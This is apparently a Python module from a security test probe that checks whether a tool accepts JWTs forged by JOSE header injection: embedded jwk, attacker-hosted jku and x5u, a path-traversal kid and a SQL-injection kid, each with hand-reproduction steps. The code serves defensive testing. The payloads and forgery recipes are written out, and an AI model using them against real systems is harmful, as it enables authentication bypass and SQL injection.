"""JOSE header key injection: the token names its own key — embedded, by URL, or by a ``kid``
that a naive key lookup turns into a file path or an SQL query.

``jku`` and ``x5u`` point at the probe's loopback site (:mod:`..attacker`), so the report says
whether the tool fetched them: a fetch is a server-side request forgery (RFC 8725 §3.10) even
when the launch is then refused, and is reported as a note on the case.
"""

from __future__ import annotations

import json

from .. import forge
from ..reasons import KEY, SIGNATURE
from ..severity import Severity
from .context import Attempt, Context
from .registry import case

GROUP = "JOSE header injection"
MUST = Severity.MUST
OWASP = "OWASP WSTG: Testing JSON Web Tokens"
BY_HAND = "Take the id_token from the platform's auto-posting form, "
#: What a path-traversing kid reads: /dev/null, an empty key.
KID_PATH = "../../../../../../../../dev/null"
#: A kid that, pasted into ``SELECT key FROM keys WHERE kid = '…'``, selects the attacker's secret.
SQL_SECRET = "probe-sql-secret"
KID_SQL = f"probe' UNION SELECT '{SQL_SECRET}' -- "


def _fetched_note(ctx: Context, attempt: Attempt, url: str, what: str) -> None:
    """After the post: say whether the tool fetched ``url`` from the probe's site."""
    hits = ctx.site.hits(url)
    attempt.notes.append(f"the tool fetched the attacker's {what} ({len(hits)} request(s) from {hits[0].client}): "
                         "server-side request forgery" if hits else f"the tool did not fetch the attacker's {what}")


@case("jwk_header", GROUP, "signed by the attacker's key, embedded in the header (jwk)", MUST, targets=(KEY, SIGNATURE),
      references=("RFC 7515 §4.1.3", "RFC 8725 §3.10", "IMS Security Framework §5.1.3 step 1", OWASP),
      accepted="the tool verified the signature with the key the token carried itself",
      reproduce=BY_HAND + "re-sign its claims with your own RSA key, put that key's public JWK in the header's "
                          "jwk (and its kid in kid), and post the form.")
def jwk_header(ctx: Context) -> Attempt:
    jwk = ctx.foreign.public_jwk()
    return Attempt(ctx.foreign.sign(ctx.flow.header, ctx.flow.claims, kid=jwk["kid"], jwk=jwk))


@case("jku_header", GROUP, "signed by the attacker's key, the header's jku pointing at its key set", MUST,
      targets=(KEY, SIGNATURE), references=("RFC 7515 §4.1.2", "RFC 8725 §3.10", OWASP),
      accepted="the tool fetched the key set the token named and trusted it (a fetch alone is reported as a note)",
      reproduce=BY_HAND + "re-sign its claims with your own RSA key, serve {\"keys\": [its public JWK]} on a URL "
                          "you watch, put that URL in the header's jku, post the form and see whether it is fetched.")
def jku_header(ctx: Context) -> Attempt:
    url = ctx.site.serve("jwks.json", json.dumps({"keys": [ctx.foreign.public_jwk()]}).encode(), "application/json")
    return Attempt(ctx.foreign.sign(ctx.flow.header, ctx.flow.claims, kid=ctx.foreign.kid, jku=url),
                   after=lambda attempt: _fetched_note(ctx, attempt, url, "key set (jku)"))


@case("x5u_header", GROUP, "signed by the attacker's key, the header's x5u pointing at its certificate", MUST,
      targets=(KEY, SIGNATURE), references=("RFC 7515 §4.1.5", "RFC 8725 §3.10", OWASP),
      accepted="the tool fetched the certificate the token named and trusted its key (a fetch alone is a note)",
      reproduce=BY_HAND + "re-sign its claims with your own RSA key, serve a self-signed certificate for it (PEM) on "
                          "a URL you watch, put that URL in the header's x5u and post the form.")
def x5u_header(ctx: Context) -> Attempt:
    url = ctx.site.serve("cert.pem", ctx.foreign.certificate_pem(), "application/pem-certificate-chain")
    return Attempt(ctx.foreign.sign(ctx.flow.header, ctx.flow.claims, kid=ctx.foreign.kid, x5u=url),
                   after=lambda attempt: _fetched_note(ctx, attempt, url, "certificate (x5u)"))


@case("kid_path_traversal", GROUP, f"HS256 keyed with an empty key, kid {KID_PATH!r}", MUST, targets=(KEY, SIGNATURE),
      references=("RFC 7515 §4.1.4", "RFC 8725 §3.10", OWASP),
      accepted="the tool read its key from the file the kid named (/dev/null: an empty key)",
      reproduce=BY_HAND + f"set the header to {{\"alg\": \"HS256\", \"kid\": \"{KID_PATH}\"}}, sign header.claims "
                          "with HMAC-SHA256 keyed with zero bytes and post the form.")
def kid_path_traversal(ctx: Context) -> Attempt:
    return Attempt(forge.hs256({**ctx.flow.header, "kid": KID_PATH}, ctx.flow.claims, b""))


@case("kid_sql_injection", GROUP, "HS256 keyed with a secret a SQL-injected kid selects", MUST, targets=(KEY, SIGNATURE),
      references=("RFC 8725 §3.10", OWASP),
      accepted="the tool's key lookup ran the kid as SQL and verified with the secret the attacker chose",
      reproduce=BY_HAND + f"set the header to {{\"alg\": \"HS256\", \"kid\": \"{KID_SQL}\"}}, sign header.claims "
                          f"with HMAC-SHA256 keyed with {SQL_SECRET!r} and post the form.")
def kid_sql_injection(ctx: Context) -> Attempt:
    return Attempt(forge.hs256({**ctx.flow.header, "kid": KID_SQL}, ctx.flow.claims, SQL_SECRET.encode()))
